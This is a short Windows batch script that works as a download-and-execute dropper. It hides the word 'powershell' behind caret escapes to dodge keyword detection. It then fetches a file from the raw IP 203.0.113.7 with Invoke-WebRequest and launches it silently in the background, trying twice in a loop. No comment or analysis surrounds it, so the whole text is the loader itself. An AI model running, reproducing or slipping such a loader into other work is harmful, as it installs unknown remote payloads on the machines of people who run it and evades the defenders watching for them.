@echo off
set x=pow^ersh^ell
for %%a in (1 2) do %x% -c "iwr http://203.0.113.7/a -OutFile a" && start /b a
